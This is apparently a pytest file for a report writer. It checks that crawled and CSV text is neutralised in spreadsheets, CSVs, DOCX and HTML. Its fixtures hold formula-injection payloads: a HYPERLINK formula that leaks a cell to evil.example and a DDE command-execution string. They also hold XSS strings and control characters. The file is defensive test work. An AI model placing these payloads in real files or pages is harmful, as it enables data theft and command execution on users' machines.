"""Hostile text in every writer: control characters, spreadsheet formulas and markup from crawled
pages and from a batch CSV's own columns. Every report is written, nothing runs as a formula,
nothing is executed in HTML."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

from docx import Document
from openpyxl import load_workbook

from oit_checker import report
from oit_checker.fleet.overview import write_csv
from oit_checker.report.safe import FORMULA_STARTS, cell, clean

FIXTURE = Path(__file__).parent / "fixtures" / "result-sample.json"
CONTROL = "ข้อมูล\x00\x01\x08\x0b\x0c\x1b\x7f\ufffeจบ"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(1)", " =1+1", "\t=1"]
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def hostile_result() -> dict:
    data = json.loads(FIXTURE.read_text(encoding="utf-8"))
    for i, it in enumerate(data["items"]):
        bad = FORMULAS[i % len(FORMULAS)]
        it["name"] = bad + CONTROL
        it["advice"] = SCRIPT + CONTROL
        for ev in it.get("evidence") or []:
            ev["title"] = bad + SCRIPT + CONTROL
            ev["snippet"] = CONTROL + bad
        if it.get("answer"):
            it["answer"]["explanation"] = bad + CONTROL
        if it.get("measure"):
            it["measure"]["issue"] = bad + CONTROL
            it["measure"]["steps"] = [bad, CONTROL]
        for f in it.get("findings") or []:
            if isinstance(f, dict):
                f.update({k: bad + CONTROL for k, v in f.items() if isinstance(v, str) and k not in ("kind", "code")})
    data["agency"] = {"name": FORMULAS[0] + SCRIPT + CONTROL}
    return data


def test_every_report_written_despite_control_characters(tmp_path):
    paths = report.write(hostile_result(), tmp_path, ["json", "html", "answers", "measures", "csv", "junit"], "th")
    names = {p.name for p in paths}
    assert {"result.json", "report.html", "oit-answers.xlsx", "oit-answers.csv", "measures.docx", "measures.xlsx",
            "findings.csv", "junit.xml"} <= names
    for p in paths:
        if p.suffix in (".xlsx", ".docx"):
            with zipfile.ZipFile(p) as zf:
                assert all(b"\x1b" not in zf.read(n) for n in zf.namelist() if n.endswith(".xml"))
    Document(str(tmp_path / "measures.docx"))  # opens
    assert "\x00" not in (tmp_path / "junit.xml").read_text(encoding="utf-8")


def test_no_cell_is_a_formula(tmp_path):
    report.write(hostile_result(), tmp_path, ["answers", "measures", "csv"], "en")
    for name in ("oit-answers.xlsx", "measures.xlsx"):
        wb = load_workbook(tmp_path / name)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (name, c.coordinate, c.value)
    for name in ("oit-answers.csv", "findings.csv"):
        with open(tmp_path / name, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    assert value.lstrip(" ")[:1] not in FORMULA_STARTS, (name, value)


def test_html_escapes_crawled_and_user_text(tmp_path):
    report.write(hostile_result(), tmp_path, ["html"], "th")
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert" in html
    assert "Content-Security-Policy" in html


def test_batch_overview_neutralises_the_csv_inputs_echoed_back(tmp_path):
    rows = [{"code": "=1+1", "name": FORMULAS[0], "type": "+SUM(1)", "province": "@A1" + CONTROL,
             "url": "http://127.0.0.1:9/", "status": "ok", "oit": 87.5, "level": "A", "fails": ["O1"],
             "unreadable": 0, "pages": 3, "documents": 1, "warnings": [], "error": "=cmd|' /C calc'!A0"}]
    path = tmp_path / "overview.csv"
    write_csv(rows, path, "th")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        data = list(csv.reader(fh))
    for value in data[1]:
        assert value.lstrip(" ")[:1] not in FORMULA_STARTS, value
    assert data[1][6] == "87.5"  # numbers stay numbers
    assert "\x00" not in path.read_text(encoding="utf-8-sig")


def test_cell_and_clean_units():
    assert cell("=1+1") == "'=1+1" and cell("-5") == "'-5" and cell(5) == 5 and cell(None) == ""
    assert cell("ประกาศ = ข่าว") == "ประกาศ = ข่าว"
    assert clean({"a": ["x\x00y", ("z\x1b",)], "n": 1}) == {"a": ["xy", ("z",)], "n": 1}


def test_batch_overview_html_escapes_inputs_and_links_only_to_the_web(tmp_path):
    from oit_checker.fleet.overview import render_html

    rows = [{"code": "1", "name": SCRIPT, "province": "<b>x</b>", "url": "javascript:alert(1)", "status": "error",
             "oit": None, "fails": [], "warnings": []},
            {"code": "2", "name": "อบต.ดี", "url": "http://127.0.0.1:9/", "status": "ok", "oit": 90.0, "level": "A",
             "fails": [], "warnings": []}]
    (tmp_path / "sites").mkdir()
    html = render_html(rows, tmp_path, "th")
    assert "<script>alert" not in html and "<b>x</b>" not in html and "&lt;script&gt;" in html
    assert 'href="javascript:' not in html and 'href="http://127.0.0.1:9/"' in html
    assert "Content-Security-Policy" in html and "script-src" not in html  # default-src 'none': no script at all


def test_a_write_that_dies_midway_leaves_the_previous_reports_whole(tmp_path, monkeypatch):
    from oit_checker.report import measures

    report.write(hostile_result(), tmp_path, ["json", "html", "measures"], "th")
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}

    def dies(rep, out):
        (Path(out) / "measures.docx").write_bytes(b"PK\x03\x04 half a file")  # what a kill would leave
        raise OSError("disk full")

    monkeypatch.setattr(measures, "write", dies)
    changed = hostile_result()
    changed["agency"] = {"name": "อบต.ใหม่"}
    try:
        report.write(changed, tmp_path, ["json", "html", "measures"], "th")
    except OSError:
        pass
    after = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
    assert after == before  # nothing half-written replaced a whole file
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".oit-writing-")]


def test_reports_land_in_out_in_format_order(tmp_path):
    paths = report.write(hostile_result(), tmp_path, ["json", "html", "answers"], "th")
    assert [p.name for p in paths] == ["result.json", "report.html", "oit-answers.xlsx", "oit-answers.csv"]
    assert all(p.parent == tmp_path and p.exists() for p in paths)
